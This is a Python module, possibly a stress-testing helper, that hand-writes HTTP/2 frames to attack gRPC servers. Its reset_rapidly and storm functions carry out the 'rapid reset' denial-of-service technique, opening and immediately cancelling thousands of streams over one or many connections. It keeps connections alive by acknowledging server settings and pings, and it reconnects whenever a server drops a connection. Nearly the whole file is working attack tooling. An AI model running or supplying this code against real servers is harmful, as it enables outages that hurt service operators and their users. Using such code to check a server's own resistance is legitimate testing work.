"""HTTP/2 frames written by hand, for clients that no gRPC library would be."""

import contextlib
import itertools
import select
import socket
import struct
import time
from collections.abc import Iterator

DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0, 1, 3, 4, 6
ACK = 0x1
END_HEADERS = 0x4
END_STREAM = 0x1
CANCEL = 8
INITIAL_WINDOW_SIZE = 4
_FRAME_HEAD = 9
"""Bytes of a frame before its payload."""
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def request_headers(path: str) -> bytes:
    """A header block of a gRPC call: literals only, so that every stream can have the same."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "127.0.0.1",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    # RFC 7541, 6.2.2: literal without indexing, new name; strings shorter than 127 bytes.
    return b"".join(
        b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in fields.items()
    )


def open_stream(stream: int, headers: bytes) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, headers)


def cancel_stream(stream: int) -> bytes:
    return frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


def begin_message(stream: int, size: int, part: bytes) -> bytes:
    """The begin of a gRPC message of `size` bytes."""
    return frame(DATA, 0, stream, b"\x00" + struct.pack(">I", size) + part)


def message(stream: int, data: bytes) -> bytes:
    """A whole gRPC message, the last of its stream."""
    return frame(DATA, END_STREAM, stream, b"\x00" + struct.pack(">I", len(data)) + data)


class RawClient:
    """One connection. What the server sends is dropped, but its settings and pings are answered:
    gRPC refuses most calls of a client that does not acknowledge its settings.

    Args:
        window: bytes of messages that the server may send on each stream.
        source: its own address.
    """

    def __init__(
        self, address: str, timeout: float = 30.0, *, window: int = 65_535, source: str = ""
    ) -> None:
        host, _, port = address.rpartition(":")
        place = (source, 0) if source else None
        self.socket = socket.create_connection((host, int(port)), timeout, place)
        settings = struct.pack(">HI", INITIAL_WINDOW_SIZE, window)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.num_headers = 0
        """Calls whose answers have begun."""
        self.closed = False
        """The server has ended the connection."""
        self._received = b""
        """From the begin of a frame on."""
        self._answers = b""

    def send(self, data: bytes) -> bool:
        """Send all, reading meanwhile; False: the server has ended the connection."""
        view = memoryview(data)
        while view and not self.closed:
            readable, writable, _ = select.select([self.socket], [self.socket], [], 30)
            with self._closing():
                if readable:
                    self._receive()
                if writable:
                    view = view[self.socket.send(view[: 1 << 16]) :]
        self._answer()
        return not self.closed

    def read_for(self, seconds: float) -> None:
        """Answer what comes within so many seconds."""
        end = time.monotonic() + seconds
        while not self.closed and (left := end - time.monotonic()) > 0:
            if select.select([self.socket], [], [], left)[0]:
                with self._closing():
                    self._receive()
                self._answer()

    def _receive(self) -> None:
        data = self.socket.recv(1 << 18)
        self.closed = not data
        self._received += data
        while len(self._received) >= _FRAME_HEAD:
            length = int.from_bytes(self._received[:3], "big")
            kind, flags = self._received[3:5]
            if len(self._received) < _FRAME_HEAD + length:
                return
            payload = self._received[_FRAME_HEAD : _FRAME_HEAD + length]
            self._received = self._received[_FRAME_HEAD + length :]
            self.num_headers += kind == HEADERS
            if kind in (SETTINGS, PING) and not flags & ACK:
                self._answers += frame(kind, ACK, 0, payload if kind == PING else b"")

    def _answer(self) -> None:
        """Only between whole frames of our own."""
        answers, self._answers = self._answers, b""
        with self._closing():
            if answers and not self.closed:
                self.socket.sendall(answers)

    @contextlib.contextmanager
    def _closing(self) -> Iterator[None]:
        try:
            yield
        except OSError:
            self.closed = True

    def close(self) -> None:
        self.socket.close()


def reset_rapidly(address: str, path: str, count: int) -> None:
    """Open and at once cancel `count` calls, on a new connection whenever the server ends one."""
    headers = request_headers(path)
    batches = [_opened_and_cancelled(headers, first) for first in range(0, count, _BATCH)]
    while batches:
        client = RawClient(address)
        while batches and client.send(batches[0]):
            batches.pop(0)
        client.close()


def storm(address: str, path: str, num_connections: int, seconds: float) -> None:
    """The same on several connections at once, for so long."""
    headers = request_headers(path)
    clients = [RawClient(address) for _ in range(num_connections)]
    end = time.monotonic() + seconds
    for first in itertools.count(0, _BATCH):
        batch = _opened_and_cancelled(headers, first)
        for client in clients:
            client.send(batch)
            client.read_for(0.002)
        if time.monotonic() > end:
            return


_BATCH = 500


def _opened_and_cancelled(headers: bytes, first: int) -> bytes:
    streams = range(2 * first + 1, 2 * (first + _BATCH) + 1, 2)
    return b"".join(open_stream(one, headers) + cancel_stream(one) for one in streams)
